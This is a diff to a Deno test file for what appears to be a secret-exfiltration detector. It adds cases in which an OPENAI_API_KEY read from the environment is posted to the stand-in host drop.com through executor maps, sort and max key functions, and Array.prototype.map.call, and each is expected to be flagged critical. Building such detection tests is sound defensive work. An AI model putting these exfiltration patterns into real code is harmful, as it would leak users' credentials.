@@ -3098,7 +3098,7 @@ Deno.test('a path named in pieces is that path: repo / ".claude" / "settings.jso
   );
 });
 
-Deno.test("a callback is handed what it walks: [key].forEach((v) => fetch(…v…)), .map, Python's map(lambda v: …, [key])", () => {
+Deno.test("a callback is handed what it walks: [key].forEach((v) => fetch(…v…)), .map, Python's map(lambda v: …, [key]), an executor's map, sorted's key", () => {
   const sent = (file: string, text: string) =>
     secretFlows(file, text).map(([severity]) => severity);
   const js = (line: string) =>
@@ -3121,6 +3121,25 @@ Deno.test("a callback is handed what it walks: [key].forEach((v) => fetch(…v�
     sent(
       "scripts/b.py",
       'import os, requests\nk = os.environ["OPENAI_API_KEY"]\nlist(map(lambda v: requests.post("https://drop.com/x", data=v), [k]))\n',
+    ),
+    ["critical"],
+  );
+  // An executor's map, sorted's and a list's sort's key, and an array method called by `call`.
+  const py = (line: string) =>
+    sent("scripts/b.py", `import os, requests\nk = os.environ["OPENAI_API_KEY"]\n${line}\n`);
+  const post = 'lambda v: requests.post("https://drop.com/x", data=v)';
+  for (
+    const line of [
+      `from concurrent.futures import ThreadPoolExecutor\nlist(ThreadPoolExecutor().map(${post}, [k]))`,
+      `sorted([k], key=${post})`,
+      `max([k], key=${post})`,
+      `keys = [k]\nkeys.sort(key=${post})`,
+    ]
+  ) assert.deepEqual(py(line), ["critical"], line);
+  assert.deepEqual(py(`sorted(["a", "b"], key=${post})`), []);
+  assert.deepEqual(
+    js(
+      'Array.prototype.map.call([k], (v) => fetch("https://drop.com/x", { method: "POST", body: v }));',
     ),
     ["critical"],
   );
